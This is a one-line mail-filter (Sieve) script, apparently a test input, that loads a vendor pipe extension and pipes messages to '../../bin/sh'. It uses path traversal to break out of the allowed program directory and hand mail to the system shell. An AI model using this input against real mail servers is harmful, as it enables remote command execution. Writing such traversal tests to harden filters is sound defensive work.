require "vnd.mailhorn.pipe"; pipe "../../bin/sh";
